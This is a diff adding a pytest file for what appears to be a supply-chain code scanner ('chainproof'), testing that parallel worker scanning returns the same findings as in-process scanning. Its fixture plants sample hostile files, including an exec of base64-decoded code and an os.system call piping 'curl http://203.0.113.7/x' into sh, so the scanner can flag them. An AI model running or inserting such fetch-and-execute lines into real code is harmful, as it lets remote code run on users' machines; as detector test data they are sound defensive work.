@@ -1,0 +1,93 @@
+"""Per-file analysis in worker processes: same findings, same order, as in-process."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+from corpus import tree_of
+
+from chainproof.deps.model import Finding
+from chainproof.deps.rules import parallel
+from chainproof.deps.rules.base import ScanContext
+from chainproof.deps.rules.code import code_rules
+
+P64 = "cHJpbnQoJ2hlbGxvIHdvcmxkJyk="
+
+
+def _square(n: int) -> list[int]:
+    return [n * n]
+
+
+def _pid(_n: int) -> list[int]:
+    return [os.getpid()]
+
+
+_PARENT = os.getpid()
+
+
+def _dies_in_workers(n: int) -> list[int]:
+    if os.getpid() != _PARENT:
+        os._exit(1)  # a worker killed mid-task (by the OOM killer, say)
+    return [n]
+
+
+def test_a_broken_pool_falls_back_to_in_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(parallel, "MIN_PARALLEL_ITEMS", 1)
+    items = list(range(300))
+    assert list(parallel.map_items(_dies_in_workers, items, lambda _n: 1, jobs=2)) == [[n] for n in items]
+
+
+def test_results_keep_item_order_across_workers() -> None:
+    items = list(range(500))
+    out = list(parallel.map_items(_square, items, lambda _n: 1, jobs=2))
+    assert out == [[n * n] for n in items]
+
+
+def test_work_runs_in_workers_only_when_it_pays(monkeypatch: pytest.MonkeyPatch) -> None:
+    me = os.getpid()
+    small = list(parallel.map_items(_pid, list(range(10)), lambda _n: 1, jobs=2))
+    assert {p for [p] in small} == {me}
+    serial = list(parallel.map_items(_pid, list(range(500)), lambda _n: 1, jobs=1))
+    assert {p for [p] in serial} == {me}
+    monkeypatch.setattr(parallel, "MIN_PARALLEL_ITEMS", 1)
+    pooled = list(parallel.map_items(_pid, list(range(50)), lambda _n: 1, jobs=2))
+    assert me not in {p for [p] in pooled}
+
+
+@pytest.mark.parametrize(("raw", "expected"), [("1", 1), ("3", 3), ("0", 1)])
+def test_jobs_come_from_the_environment(monkeypatch: pytest.MonkeyPatch, raw: str, expected: int) -> None:
+    monkeypatch.setenv(parallel.JOBS_ENV, raw)
+    assert parallel.worker_count() == expected
+
+
+def test_jobs_default_to_every_core(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(parallel.JOBS_ENV, "many")
+    assert parallel.worker_count() == (os.cpu_count() or 1)
+
+
+def test_chunks_close_at_either_limit(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(parallel, "CHUNK_ITEMS", 3)
+    monkeypatch.setattr(parallel, "CHUNK_BYTES", 10)
+    chunks = list(parallel._chunks([1, 1, 1, 1, 20, 1], lambda n: n))
+    assert chunks == [[1, 1, 1], [1, 20], [1]]
+
+
+def _tree_findings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, jobs: str) -> list[Finding]:
+    files: dict[str, str | bytes] = {}
+    for i in range(260):
+        files[f"pkg/mod{i:03}.py"] = "def f():\n    return 1\n"
+    files["pkg/evil.py"] = f"import base64\nexec(base64.b64decode('{P64}'))\n"
+    files["pkg/spawn.py"] = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"
+    files["tests/test_x.py"] = f"import base64\nexec(base64.b64decode('{P64}'))\n"
+    tree = tree_of(tmp_path / f"t{jobs}", files)
+    monkeypatch.setenv(parallel.JOBS_ENV, jobs)
+    return list(code_rules(ScanContext(tree, (), {})))
+
+
+def test_pooled_scan_matches_the_in_process_scan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    serial = _tree_findings(tmp_path, monkeypatch, "1")
+    pooled = _tree_findings(tmp_path, monkeypatch, "2")
+    assert pooled == serial
+    assert {f.path for f in serial} == {"pkg/evil.py", "pkg/spawn.py", "tests/test_x.py"}
